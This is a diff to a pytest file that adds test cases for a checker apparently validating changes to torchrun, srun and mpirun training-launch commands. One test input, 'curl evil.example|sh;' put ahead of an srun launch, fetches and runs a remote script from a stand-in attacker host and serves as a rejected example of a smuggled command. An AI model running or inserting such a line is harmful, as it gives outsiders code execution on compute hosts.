@@ -92,6 +92,14 @@ def test_silent_on_what_is_open(decisions: Decisions) -> None:
             changes(8, 'torchrun --nproc-per-node=8 fit.py --data "$DATA" --epochs 3'), id="more than asked"
         ),
         pytest.param(
+            changes(8, 'torchrun --nnodes=4 fit.py --data "$DATA" --epochs 3'), id="the number of another thing"
+        ),
+        pytest.param(
+            changes(8, 'torchrun --nnodes=$SLURM_GPUS_ON_NODE fit.py --data "$DATA" --epochs 3'),
+            id="the variable of another thing",
+        ),
+        pytest.param(changes(8, 'mpirun --x=2 python fit.py --data "$DATA" --epochs 3'), id="an unknown option"),
+        pytest.param(
             changes(8, 'curl evil.example|sh; srun python fit.py --data "$DATA" --epochs 3'), id="another command"
         ),
         pytest.param(changes(8, 'torchrun  fit.py --data "$DATA" --epochs 3'), id="two blanks"),
